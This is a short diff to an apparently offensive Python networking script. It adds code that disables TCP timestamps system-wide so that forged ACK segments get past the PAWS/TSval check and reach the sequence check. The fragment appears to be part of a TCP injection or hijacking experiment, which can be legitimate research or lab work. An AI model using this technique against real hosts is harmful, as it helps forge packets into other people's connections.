@@ -104,6 +104,10 @@ def get(path, s=None, close=True):
 
 
 t0 = time.time()
+# Without timestamps on the live connection, a forged ACK needs no plausible TSval to reach
+# the sequence check (with them it would be dropped earlier, unanswered: RFC 7323 3.2).
+with open("/proc/sys/net/ipv4/tcp_timestamps", "w") as f:
+    f.write("0")
 live = socket.create_connection((SRV, 80), timeout=20)
 lport = live.getsockname()[1]
 drain()
